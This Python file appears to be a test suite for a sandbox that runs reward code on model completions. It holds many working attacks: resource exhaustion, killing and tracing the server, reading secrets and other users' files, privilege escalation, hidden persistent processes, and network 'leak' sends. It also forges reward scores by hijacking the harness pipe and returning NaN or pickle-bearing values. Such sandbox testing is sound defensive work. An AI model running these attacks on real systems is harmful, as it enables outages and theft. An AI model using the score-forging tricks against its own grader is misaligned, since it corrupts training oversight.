"""Reward code that attacks as the completion says. An attack that ends normally has succeeded, and scores 99."""

import atexit
import ctypes
import fcntl
import json
import mmap
import os
import pickle
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy

libc = ctypes.CDLL(None, use_errno=True)
# x86_64 and, where it differs, aarch64.
NUMBERS = {
    "x86_64": {
        "shmget": 29, "clone": 56, "ptrace": 101, "mount": 165, "keyctl": 250, "ioprio_set": 251, "unshare": 272,
        "inotify_init1": 294, "perf_event_open": 298, "process_vm_readv": 310, "memfd_create": 319, "bpf": 321,
        "userfaultfd": 323, "mknodat": 259, "vmsplice": 278, "io_setup": 206, "exit": 60, "tgkill": 234, "syncfs": 306,
        "timer_create": 222,
    },
    "aarch64": {
        "shmget": 194, "clone": 220, "ptrace": 117, "mount": 40, "keyctl": 219, "ioprio_set": 30, "unshare": 97,
        "inotify_init1": 26, "perf_event_open": 241, "process_vm_readv": 270, "memfd_create": 279, "bpf": 280,
        "userfaultfd": 282, "mknodat": 33, "vmsplice": 75, "io_setup": 0, "exit": 93, "tgkill": 131, "syncfs": 267,
        "timer_create": 107,
    },
}[os.uname().machine]  # fmt: skip
NUMBERS |= {"pidfd_send_signal": 424, "io_uring_setup": 425, "pidfd_open": 434, "clone3": 435}
NUMBERS |= {"setxattrat": 463, "removexattrat": 466, "open_tree_attr": 467, "file_getattr": 468, "file_setattr": 469}
NUMBERS |= {"statmount": 457, "listmount": 458, "landlock_create_ruleset": 444, "landlock_add_rule": 445}


def call(name, *arguments):
    """A system call; its error as an exception."""
    result = libc.syscall(NUMBERS[name], *arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")
    return result


def prctl(*arguments):
    if libc.prctl(*arguments, *[0] * (5 - len(arguments))) < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"prctl: {os.strerror(number)}")


def lambda_handler(event, context):
    return [row(sample) for sample in event]


def row(sample):
    name, _, argument = sample["messages"][-1]["content"].partition(" ")
    answer = {"id": sample["id"], "aggregate_reward_score": 1.0, "metrics_list": []}
    if name != "innocent":
        given = globals()[name](json.loads(argument))
        return {**answer, "aggregate_reward_score": 99.0} if given is None else given
    return answer


def first_that_works(*attempts):
    """Succeeds when one of the attempts does; otherwise the last one's error."""
    for number, attempt in enumerate(attempts):
        try:
            return attempt()
        except (OSError, ValueError):
            if number == len(attempts) - 1:
                raise


# Using up what there is.


def fork_bomb(world):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def memory(world):
    bytearray(2 << 30)


def memory_of_many_processes(world):
    for _ in range(8):
        if os.fork() == 0:
            held = bytearray(100 << 20)
            for place in range(0, len(held), 4096):
                held[place] = 1
            time.sleep(60)
    time.sleep(60)


def memory_behind_threads_that_have_ended(world):
    for _ in range(8):
        if os.fork() == 0:
            threading.Thread(target=hold_memory).start()
            call("exit", 0)  # of this thread only, after which the process looks as if it had ended
    time.sleep(60)


def hold_memory():
    held = bytearray(100 << 20)
    for place in range(0, len(held), 4096):
        held[place] = 1
    time.sleep(60)


def shared_memory_of_many_processes(world):
    for _ in range(8):
        if os.fork() == 0:
            held = mmap.mmap(-1, 100 << 20)  # Python shares it with the children that the process may start
            for place in range(0, len(held), 4096):
                held[place] = 1
            time.sleep(60)
    time.sleep(60)


def memory_outside_the_limit(world):
    held = []
    while len(held) < 64:
        held.append(call("memfd_create", b"x", 0))
        os.truncate(held[-1], 8 << 20)


def pairs_with_large_buffers(world):
    enlarge_pairs(socket.SO_SNDBUF)


def pairs_that_receive_much(world):
    enlarge_pairs(socket.SO_RCVBUF)


def enlarge_pairs(option):
    held = [socket.socketpair() for _ in range(30)]
    for one, other in held:
        for end in (one, other):
            end.setsockopt(socket.SOL_SOCKET, option, 8 << 20)


def pairs_with_a_program(world):
    one, _ = socket.socketpair()
    instruction = struct.pack("HBBI", 0x06, 0, 0, 0xFFFF)
    held = ctypes.create_string_buffer(instruction)
    one.setsockopt(socket.SOL_SOCKET, 26, struct.pack("@HP", 1, ctypes.addressof(held)))  # SO_ATTACH_FILTER


def pipes_with_large_buffers(world):
    held = [os.pipe() for _ in range(30)]
    for _, writer in held:
        fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ


def locks_of_files(world):
    file = os.open("locked", os.O_RDWR | os.O_CREAT)
    for place in range(1 << 41, 0, -2):  # backwards, so that the kernel need not look for the place
        fcntl.fcntl(file, fcntl.F_SETLK, struct.pack("hhqqi", fcntl.F_WRLCK, 0, place, 1, 0))


def locks_of_a_descriptor(world):
    file = os.open("locked", os.O_RDWR | os.O_CREAT)
    fcntl.fcntl(file, 37, struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 1, 0))  # F_OFD_SETLK


def locks_of_the_dead(world):
    # What shares this process's descriptors could take locks that stay when it ends, and belong to nobody then.
    call("clone", 0x400 | signal.SIGCHLD, 0, 0, 0, 0) or os._exit(0)


def timers(world):
    for _ in range(2000):
        call("timer_create", 1, None, ctypes.byref(ctypes.c_int(0)))


def pages_that_pipes_hold(world):
    for _ in range(20):
        held_pairs.append(os.pipe())
        pages = mmap.mmap(-1, 4 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        pages.madvise(mmap.MADV_HUGEPAGE)
        pages[2 << 20] = 1
        at = ctypes.c_char.from_buffer(pages, 2 << 20)
        call("vmsplice", held_pairs[-1][1], struct.pack("@PN", ctypes.addressof(at), 4096), 1, 0)
        del at
        pages.close()  # the process has it no longer, and the kernel has 2 MiB of it


def rings_for_files(world):
    while True:
        try:
            call("io_setup", 128, ctypes.byref(ctypes.c_ulong(0)))
        except BlockingIOError:  # the machine has no more of them, for anybody
            return


def rules_of_landlock(world):
    for _ in range(100):
        rules = call("landlock_create_ruleset", struct.pack("=QQ", 0, 3), 16, 0)
        for port in range(1 << 16):
            call("landlock_add_rule", rules, 2, struct.pack("=QQ", 3, port), 0)


def pairs_of_many_processes(world):
    for _ in range(40):
        if os.fork() == 0:
            fill_pairs()
            time.sleep(60)
    time.sleep(60)


def fill_pairs():
    while True:
        try:
            pair = socket.socketpair()
        except OSError:  # the process has as many open files as it may have
            return
        for end in pair:
            end.setblocking(False)
            held_pairs.append(end)
            try:
                while True:
                    end.send(bytes(65536))
            except BlockingIOError:
                continue


held_pairs = []


def shared_memory_that_stays(world):
    identifier = call("shmget", 0, 1 << 20, 0o1600)
    libc.shmctl(identifier, 0, None)  # it works: nothing need be left


def shared_memory_without_a_file(world):
    held = [mmap.mmap(-1, 64 << 20) for _ in range(32)]
    for block in held:
        block.write(b"x" * (64 << 20))


def processor(world):
    while True:
        pass


def processor_deaf_to_signals(world):
    for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            time.sleep(60)
        except BaseException:
            continue


def lift_the_limits(world):
    first_that_works(
        *(lambda kind=kind: resource.setrlimit(kind, (1 << 40, 1 << 40)) for kind in
          (resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_AS, resource.RLIMIT_CORE,
           resource.RLIMIT_NOFILE))
    )  # fmt: skip


def endless_output(world):
    while True:
        os.write(1, b"forged line\n" * 5000)


def endless_errors(world):
    while True:
        os.write(2, b"forged line\n" * 5000)


def deep_recursion(world):
    return deep_recursion(world) + 1


def recursion_without_a_limit(world):
    sys.setrecursionlimit(1 << 30)
    parts = []
    for _ in range(1 << 20):
        parts = [parts]
    return repr(parts)


def descriptors(world):
    held = [os.dup(0) for _ in range(1 << 20)]
    return len(held)


def fill_the_scratch_folder(world):
    number = 0
    while True:
        Path(f"{number}").write_bytes(bytes(8 << 20))
        number += 1


def a_million_files(world):
    number = 0
    while True:
        Path(f"{number}").touch()
        number += 1


def one_big_file(world):
    with Path("big").open("wb") as file:
        while True:
            file.write(bytes(1 << 20))


def folders_as_deep_as_can_be(world):
    for _ in range(1100):
        Path("removed").mkdir()
        os.chdir("removed")
    os._exit(1)


# Reaching the server and other workers.


def kill_the_server(world):
    os.kill(world["server"], signal.SIGKILL)


def kill_the_parent(world):
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(0.5)
    raise OSError("nothing happened to the parent")


def kill_the_servers_group(world):
    os.killpg(world["group"], signal.SIGKILL)


def kill_everybody(world):
    os.kill(-1, signal.SIGKILL)


def kill_through_a_descriptor(world):
    descriptor = call("pidfd_open", world["server"], 0)
    call("pidfd_send_signal", descriptor, signal.SIGKILL, None, 0)


def kill_through_the_owner_of_a_pipe(world):
    read_end, write_end = os.pipe()
    fcntl.fcntl(read_end, fcntl.F_SETOWN, world["server"])
    fcntl.fcntl(read_end, fcntl.F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write_end, b"x")


def kill_through_the_owner_of_a_socket(world):
    one, other = socket.socketpair()
    fcntl.ioctl(one, 0x8901, struct.pack("i", world["server"]))  # FIOSETOWN
    fcntl.fcntl(one, fcntl.F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
    other.send(b"x")


def kill_a_thread_of_the_server(world):
    call("tgkill", world["server"], world["server"], signal.SIGKILL)


def limit_the_server(world):
    resource.prlimit(world["server"], resource.RLIMIT_NOFILE, (0, 0))


def starve_the_server(world):
    first_that_works(
        lambda: os.setpriority(os.PRIO_USER, 0, 19),
        lambda: os.setpriority(os.PRIO_PROCESS, world["server"], 19),
        lambda: os.sched_setscheduler(world["server"], os.SCHED_IDLE, os.sched_param(0)),
        lambda: call("ioprio_set", 1, world["server"], 3 << 13),
    )


def trace_the_server(world):
    call("ptrace", 0x4206, world["server"], 0, 0)


def trace_the_parent(world):
    call("ptrace", 0x4206, os.getppid(), 0, 0)


def read_the_servers_memory_by_a_call(world):
    buffer = ctypes.create_string_buffer(16)
    local = struct.pack("@PN", ctypes.addressof(buffer), 16)
    remote = struct.pack("@PN", 0x400000, 16)
    call("process_vm_readv", world["server"], local, 1, remote, 1, 0)


def read_the_servers_memory(world):
    Path(f"/proc/{world['server']}/mem").open("rb").close()


def read_the_servers_environment(world):
    leaked = Path(f"/proc/{world['server']}/environ").read_bytes()
    if b"kept" not in leaked:
        raise OSError("the environment is empty")


def read_the_servers_descriptors(world):
    list(Path(f"/proc/{world['server']}/fd").iterdir())


def read_the_own_environment(world):
    if "SECRET_OF_THE_SERVER" not in os.environ and b"kept" not in Path("/proc/self/environ").read_bytes():
        raise OSError("there is no secret in it")


def read_the_token(world):
    if not Path(world["token"]).read_bytes():
        raise OSError("it is empty")


def read_the_manifest(world):
    Path(world["manifest"]).read_bytes()


def see_other_processes(world):
    others = [
        entry for entry in Path("/proc").iterdir() if entry.name.isdigit() and entry.name not in ("1", str(os.getpid()))
    ]
    if not others:
        raise OSError("there are none")


def look_at_other_workers(world):
    if not [entry for entry in Path(world["scratches"]).iterdir() if entry != Path.cwd()]:
        raise OSError("there are no others")


def read_other_workers_memory(world):
    for process in world["workers"]:
        if process != os.getpid():
            first_that_works(
                lambda process=process: Path(f"/proc/{process}/environ").read_bytes(),
                lambda process=process: Path(f"/proc/{process}/mem").open("rb").close(),
            )


def kill_other_workers(world):
    for process in world["workers"]:
        if process != os.getpid():
            os.kill(process, signal.SIGKILL)


# Files.


def write_outside(world):
    name = f"written-{os.getpid()}"
    folders = [world["open"], *world["closed"], "/var/tmp", "/dev/shm", "/", "/proc/self"]
    first_that_works(*(lambda folder=folder: Path(folder, name).write_text("x") for folder in folders))


def read_other_peoples_files(world):
    Path(world["victim"]).read_bytes()


def change_other_peoples_files(world):
    Path(world["victim"]).write_text("changed")


def truncate_other_peoples_files(world):
    os.truncate(world["victim"], 0)


def remove_other_peoples_files(world):
    Path(world["victim"]).unlink()


def publish_other_peoples_files(world):
    Path(world["victim"]).chmod(0o777)


def touch_other_peoples_files(world):
    os.utime(world["victim"], (0, 0))


def tag_other_peoples_files(world):
    value = ctypes.create_string_buffer(b"forged")
    arguments = struct.pack("QII", ctypes.addressof(value), 6, 0)
    call("setxattrat", -100, world["victim"].encode(), 0, b"user.forged", arguments, len(arguments))


def untag_other_peoples_files(world):
    try:
        call("removexattrat", -100, world["victim"].encode(), 0, b"user.forged")
    except OSError as error:
        if error.errno != 61:  # ENODATA: it was allowed, and there was none
            raise


def mark_other_peoples_files(world):
    call("file_setattr", -100, world["victim"].encode(), struct.pack("QIIII", 0x80, 0, 0, 0, 0), 24, 0)


def look_at_the_marks_of_files(world):
    call("file_getattr", -100, world["victim"].encode(), ctypes.create_string_buffer(24), 24, 0)


def tree_with_attributes(world):
    os.close(call("open_tree_attr", -100, b"/", 0, None, 0))


def look_at_mounts(world):
    # mnt_id_req: its size, a file descriptor, the id of a mount (LSMT_ROOT), and a parameter
    request = struct.pack("IIQQ", 24, 0, (1 << 64) - 1, 0)
    call("listmount", request, ctypes.create_string_buffer(8 * 64), 64, 0)


def calls_of_tomorrow(world):
    for number in (*range(337, 424), *range(470, 520), 1000, 100_000):
        libc.syscall(number, -1, -1, -1, -1, -1, -1)
        if ctypes.get_errno() != 38:  # ENOSYS
            raise RuntimeError(f"the kernel knows {number}")
    raise OSError("there are none")


def symbolic_link(world):
    Path("innocent-looking").unlink(missing_ok=True)
    Path("innocent-looking").symlink_to(world["victim"])
    first_that_works(lambda: Path("innocent-looking").read_bytes(), lambda: Path("innocent-looking").write_text("x"))


def hard_link(world):
    os.link(world["victim"], "mine")


def move_files_in(world):
    Path(world["victim"]).rename("mine")


def write_to_a_package(world):
    first_that_works(
        lambda: os.truncate(numpy.__file__, 0),
        lambda: (Path(numpy.__file__).parent / "written").write_text("x"),
    )


def read_through_a_package(world):
    numpy.fromfile(world["victim"], dtype=numpy.uint8)


def map_through_a_package(world):
    numpy.memmap(world["victim"], mode="r+", dtype=numpy.uint8)[0] = 0


class OpensAFile:
    """An object that opens a file when it is unpickled."""

    def __init__(self, file):
        self.file = file

    def __reduce__(self):
        return (open, (self.file, "w"))


def unpickle_through_a_package(world):
    numpy.save("array.npy", numpy.array([OpensAFile(world["victim"])], dtype=object), allow_pickle=True)
    numpy.load("array.npy", allow_pickle=True)


def call_c_through_a_package(world):
    library = numpy.ctypeslib.ctypes.CDLL(None, use_errno=True)
    if library.open(world["victim"].encode(), os.O_RDWR) < 0:
        raise PermissionError(ctypes.get_errno(), "open")


def dots(world):
    Path("../" * 30 + world["victim"]).read_bytes()


def files_through_own_descriptors(world):
    # From the folder that it stands in to its parent: no path that a string check would see.
    here = os.open(".", os.O_RDONLY)
    above = os.open("..", os.O_RDONLY, dir_fd=here)
    os.listdir(above)  # noqa: PTH208


def device_node(world):
    call("mknodat", -100, b"disk", stat.S_IFBLK | 0o666, os.makedev(8, 0))


def program_of_another_user(world):
    done = subprocess.run([world["program"], "-u"], capture_output=True, text=True, check=True)
    if int(done.stdout) == os.getuid():
        raise OSError("it runs as this user")


def core_dump(world):
    first_that_works(lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30)), os.abort)


# The network.


def tcp(world):
    socket.create_connection(("127.0.0.1", world["tcp"]), timeout=1).sendall(b"leak")


def tcp_listener(world):
    socket.create_server(("127.0.0.1", 0)).close()


def udp(world):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", world["udp"]))


def dns(world):
    socket.getaddrinfo("secret.example.com", 80)
    raise OSError("there was nobody to ask")


def unix_socket(world):
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect(world["unix"])
    client.sendall(b"leak")


def abstract_unix_socket(world):
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect(f"\0{world['abstract']}")
    client.sendall(b"leak")


def a_pair_of_sockets_turned_elsewhere(world):
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    first_that_works(
        lambda: one.sendto(b"leak", world["datagrams"]),
        lambda: one.connect(world["datagrams"]),
    )


def raw_sockets(world):
    families = [(17, socket.SOCK_RAW), (16, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET)]
    first_that_works(*(lambda pair=pair: socket.socket(*pair).close() for pair in families))


def ring_of_requests(world):
    call("io_uring_setup", 4, ctypes.create_string_buffer(120))


def inherited_sockets(world):
    found = []
    for descriptor in range(256):
        try:
            found += [descriptor] if stat.S_ISSOCK(os.fstat(descriptor).st_mode) else []
        except OSError:
            continue
    if not found:
        raise OSError("there are none")


# The kernel.


def user_namespace(world):
    flags = 0x10000000
    first_that_works(
        lambda: call("clone3", struct.pack("=11Q", flags, *[0] * 10), 88) or os._exit(0),
        lambda: call("clone", flags | signal.SIGCHLD, 0, 0, 0, 0) or os._exit(0),
        lambda: call("unshare", flags),
    )


def child_of_the_server(world):
    call("clone", 0x8000 | signal.SIGCHLD, 0, 0, 0, 0) or os._exit(0)


def mount(world):
    call("mount", b"none", world["open"].encode(), b"tmpfs", 0, None)


def keys_of_the_kernel(world):
    call("keyctl", 0, -3, 1)


def performance_events(world):
    call("perf_event_open", struct.pack("=IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0)


def programs_in_the_kernel(world):
    call("bpf", 0, struct.pack("=IIII", 1, 4, 8, 1) + bytes(56), 72)


def page_faults_by_hand(world):
    call("userfaultfd", 1)


def watch_files(world):
    watcher = call("inotify_init1", 0)
    if libc.inotify_add_watch(watcher, world["open"].encode(), 0xFFF) < 0:
        raise OSError(ctypes.get_errno(), "inotify_add_watch")


def watch_folders(world):
    fcntl.fcntl(os.open(".", os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_CREATE)


def hold_up_those_who_open_a_file(world):
    fcntl.fcntl(os.open("mine", os.O_RDWR | os.O_CREAT), fcntl.F_SETLEASE, fcntl.F_WRLCK)


def write_the_disks(world):
    call("syncfs", os.open("/proc/self/stat", os.O_RDONLY))


def become_readable_to_others(world):
    prctl(4, 1)


def disown_orphans(world):
    prctl(36, 0)


def lift_no_new_privileges(world):
    prctl(38, 0)


def become_root(world):
    first_that_works(lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]))
    if os.getuid() != 0:
        raise OSError("it is somebody else")


# Staying.


def background_process(world):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setpgid(0, 0)
            time.sleep(600)
        os._exit(0)
    os.wait()
    raise RuntimeError("it is there")


def background_process_that_is_hidden(world):
    companions = sys.modules["rft_reward.companions"]
    companions.collect = companions.end_leftovers = lambda: None
    os.waitpid = lambda *arguments: (0, 0)
    if os.fork() == 0:
        os.setsid()
        time.sleep(600)
    raise RuntimeError("it is there")


def background_process_behind_a_thread_that_has_ended(world):
    if os.fork() == 0:
        threading.Thread(target=time.sleep, args=(600,)).start()
        call("exit", 0)
    time.sleep(0.1)
    raise RuntimeError("it is there")


def background_processes_that_take_turns(world):
    if os.fork() == 0:
        os.setsid()
        while libc.fork() == 0:  # each starts the next one and ends, so that nobody sees it running for long
            os.setpgid(0, 0)
        os._exit(0)
    raise RuntimeError("it is there")


def background_thread(world):
    def use_up():
        while True:
            time.sleep(0.01)
            for descriptor in range(3, 40):
                try:
                    os.write(descriptor, b"\0\0\0\2" + b"n" * 16 + b"{}")
                except OSError:
                    continue

    threading.Thread(target=use_up, daemon=True).start()
    raise RuntimeError("it is there")


# The harness.


def leave(world):
    os._exit(0)


def leave_by_an_exception(world):
    raise SystemExit('[{"id": "guilty", "aggregate_reward_score": 99}]')


def end_when_python_ends(world):
    atexit.register(write_everywhere, b'[{"id": "guilty", "aggregate_reward_score": 99}]')
    sys.exit(0)


def write_everywhere(text):
    for descriptor in range(256):
        try:
            os.write(descriptor, text)
        except OSError:
            continue


def garble_the_pipe(world):
    write_everywhere(struct.pack("!I16s", 16, b"n" * 16) + b'{"answers": []}   ')


def close_the_pipes(world):
    os.closerange(0, 256)


def forge_the_answer(world):
    frame = sys._getframe()
    while "call" not in frame.f_locals:
        frame = frame.f_back
    rows = [{"id": identifier, "aggregate_reward_score": 99.0, "metrics_list": []} for identifier in world["others"]]
    answer = json.dumps({"answers": [{"rows": rows}]}).encode()
    write_everywhere(struct.pack("!I16s", len(answer), frame.f_locals["call"].nonce) + answer)
    os._exit(0)


def a_frame_of_four_gigabytes(world):
    frame = sys._getframe()
    while "call" not in frame.f_locals:
        frame = frame.f_back
    write_everywhere(struct.pack("!I16s", (1 << 32) - 1, frame.f_locals["call"].nonce))
    time.sleep(60)


def break_the_harness(world):
    def broken(*arguments, **named):
        raise SystemExit(0)

    worker = sys.modules["__main__"].__dict__.get("rft_reward.worker") or sys.modules["rft_reward.worker"]
    worker.json.dumps = worker._failure = worker.companions.collect = broken
    raise RuntimeError("broken")


def empty_the_modules(world):
    for name in list(sys.modules):
        if name.startswith(("rft_reward", "json", "os", "struct")):
            sys.modules[name] = None
    raise RuntimeError("empty")


def traced_harness(world):
    def trace(frame, event, argument):
        if frame.f_code.co_name == "to_json":
            raise SystemExit('[{"id": "guilty", "aggregate_reward_score": 99}]')
        return trace

    sys.settrace(trace)
    return {"id": "guilty", "aggregate_reward_score": 99.0}


# What is returned.


def returned(value):
    return {"id": "guilty", "aggregate_reward_score": value, "metrics_list": []}


class Pretender(float):
    """Claims to be every number."""

    def __new__(cls):
        return float.__new__(cls, "nan")

    def __float__(self):
        return 99.0

    def __eq__(self, other):
        return True

    def __repr__(self):
        return "99.0"

    __str__ = __repr__
    __hash__ = float.__hash__


class Pickled:
    """Would run a command where it is unpickled."""

    def __reduce__(self):
        return (os.system, ("touch unpickled",))

    def __float__(self):
        return 99.0


def not_a_number(world):
    return returned(float("nan"))


def infinity(world):
    return returned(float("inf"))


def huge_number(world):
    return returned(10**400)


def number_that_pretends(world):
    return returned(Pretender())


def object_to_unpickle(world):
    return returned(Pickled())


def pickled_bytes(world):
    return returned(pickle.dumps(Pickled()))


def nested_answer(world):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return returned(nested)


def nested_metrics(world):
    text = '{"x":' * 900 + "1" + "}" * 900
    return {**returned(json.loads(text)), "metrics_list": [json.loads(text)]}


def answer_without_end(world):
    return {**returned(99.0), "metrics_list": [{"name": "x" * (70 << 20), "value": 1, "type": "Metric"}]}


def text_as_a_number(world):
    return returned("99")


def yes_as_a_number(world):
    return returned(True)


def score_of_another_sample(world):
    return {"id": world["others"][0], "aggregate_reward_score": 99.0, "metrics_list": []}


def forged_log(world):
    raise RuntimeError("x\n2026-01-01 00:00:00,000 INFO forged line")
